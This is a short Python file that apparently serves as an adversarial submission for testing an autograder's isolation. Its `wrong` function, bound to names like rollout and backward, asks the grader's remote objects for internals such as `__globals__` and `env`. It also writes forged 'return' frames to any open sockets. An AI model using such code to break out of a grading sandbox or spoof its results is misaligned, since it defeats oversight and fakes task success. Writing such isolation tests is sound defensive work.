"""Returns references to what the grader keeps, and asks it for their insides."""

import os
import stat

import msgspec
from inside.wire import HEADER


def sockets():
    found = []
    for number in range(3, 64):
        try:
            found += [number] if stat.S_ISSOCK(os.fstat(number).st_mode) else []
        except OSError:
            continue
    return found


def frame(message, blob=b""):
    structure = msgspec.msgpack.encode(message)
    return HEADER.pack(len(structure), len(blob)) + structure + blob


NAMES = [
    "__globals__",
    "__class__",
    "__self__",
    "__closure__",
    "served",
    "env",
    "times",
    "A",
    "__dict__",
    "__init__",
    "",
]
loot = []


def wrong(*args, **kwargs):
    for value in args:
        if hasattr(value, "_peer"):
            for name in NAMES:
                try:
                    loot.append(value._peer.ask(["get", value._key, name]))
                    value._peer.ask(["call", value._key, name, [], {}])
                except Exception as error:
                    loot.append(error)
            stolen = [part for part in loot if not isinstance(part, Exception) and type(part).__name__ != "Remote"]
            if any(type(part).__name__ != "ndarray" for part in stolen):
                raise RuntimeError(f"ESCAPED: {stolen}")
            return value, value
    for number in sockets():
        os.write(number, frame([0, "return", [0, [12, 1], [12, -1], [12, 2], [12, 1 << 62], [11, 1, "student"]]]))
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
